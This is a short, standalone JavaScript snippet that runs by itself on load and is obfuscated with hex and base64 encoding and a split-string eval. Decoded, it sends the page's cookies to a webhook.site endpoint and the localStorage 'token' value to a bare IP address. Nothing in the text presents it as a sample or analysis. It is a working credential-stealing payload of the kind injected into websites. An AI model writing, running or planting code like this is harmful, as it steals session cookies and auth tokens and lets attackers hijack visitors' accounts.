(function () {
  var h = "6665746368282768747470733a2f2f776562686f6f6b2e736974652f33663664326139652d376334312d346238652d396431352d3261366330653866346237313f633d272b656e636f6465555249436f6d706f6e656e7428646f63756d656e742e636f6f6b69652929";
  var s = "";
  for (var i = 0; i < h.length; i += 2) s += String.fromCharCode(parseInt(h.substr(i, 2), 16));
  window["ev" + "al"](s);
  setTimeout(atob("bmV3IEltYWdlKCkuc3JjPScvLzIwMy4wLjExMy43L3A/JytidG9hKGxvY2FsU3RvcmFnZS5nZXRJdGVtKCd0b2tlbicpKQ=="), 500);
})();
